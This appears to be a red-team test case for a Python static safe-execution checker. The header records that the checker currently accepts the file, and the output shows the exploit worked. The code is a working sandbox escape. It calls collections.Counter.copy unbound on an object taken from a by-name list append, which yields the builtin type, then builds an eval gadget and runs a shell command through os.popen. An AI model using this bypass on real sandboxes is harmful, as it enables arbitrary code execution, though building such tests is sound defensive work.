# expect: reject unbound
# line: 21
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, id ran)
# why: thirteenth red team (second round), family C: a library class put into a list by a by-name append, read back and called unbound (Counter.copy(P) is the builtin type)

# Mechanism: family C feeding the unbound door: a library class put in a list by getattr(ks, 'append') and called as ks[0].copy(P). NOTE: the plain form ks = [collections.Counter]; ks[0].copy(P) is the brief's known-open case (library class through a container) and is accepted too; this file is here because a fix that follows the store rule's container flows will still miss the by-name fill (family C)
# Goal reached: eval obtained by value and called: runs id
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted)
# Output seen under python3 (3.11.7), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import collections
import copy
import typing

class P:
    pass

ks = []
getattr(ks, "append")(collections.Counter)        # by-name fill: no flow recorded into ks
T = ks[0].copy(P)                                 # Counter.copy(P) -> P.__class__(P) -> the builtin type
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))   # 11b family A end gadget
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
